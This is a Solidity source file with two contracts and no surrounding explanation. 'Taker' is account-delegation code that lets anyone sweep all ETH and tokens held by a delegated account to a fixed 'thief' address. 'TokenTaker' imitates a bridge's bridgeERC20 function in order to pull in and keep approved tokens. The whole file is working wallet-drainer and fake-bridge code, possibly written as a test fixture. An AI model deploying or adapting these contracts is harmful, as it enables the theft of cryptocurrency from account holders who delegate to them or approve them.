// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.0;

interface Coinlike {
    function balanceOf(address holder) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

/// Code for a delegated account: keeps what arrives until anybody asks for it to be taken away.
contract Taker {
    address payable public immutable thief;

    constructor(address payable to) {
        thief = to;
    }

    receive() external payable {}

    function take() external {
        (bool ok, ) = thief.call{value: address(this).balance}("");
        require(ok);
    }

    function takeToken(Coinlike token) external {
        require(token.transfer(thief, token.balanceOf(address(this))));
    }
}

interface Pullable {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// Takes tokens by a method of its own, as bridges do.
contract TokenTaker {
    mapping(address => uint256) public taken;

    function bridgeERC20(Pullable token, address, uint256 amount, uint32, bytes calldata) external {
        require(token.transferFrom(msg.sender, address(this), amount));
        taken[msg.sender] += amount;
    }
}
